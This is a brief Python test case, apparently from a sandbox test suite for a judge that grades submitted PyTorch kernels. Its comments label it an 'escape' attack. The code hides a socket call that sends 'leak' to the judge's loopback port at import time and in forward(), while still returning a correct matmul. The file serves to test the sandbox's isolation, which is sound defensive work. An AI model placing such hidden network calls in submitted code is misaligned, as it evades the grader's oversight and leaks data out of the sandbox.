# attack: escape: connects to a server on the judge's loopback and sends data
# expect: accepted
import socket

import torch
from torch import nn

PORT = int("@PORT@")


def _phone_home() -> None:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"leak")
    except OSError:
        pass


_phone_home()


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        _phone_home()
        return torch.matmul(a, b)
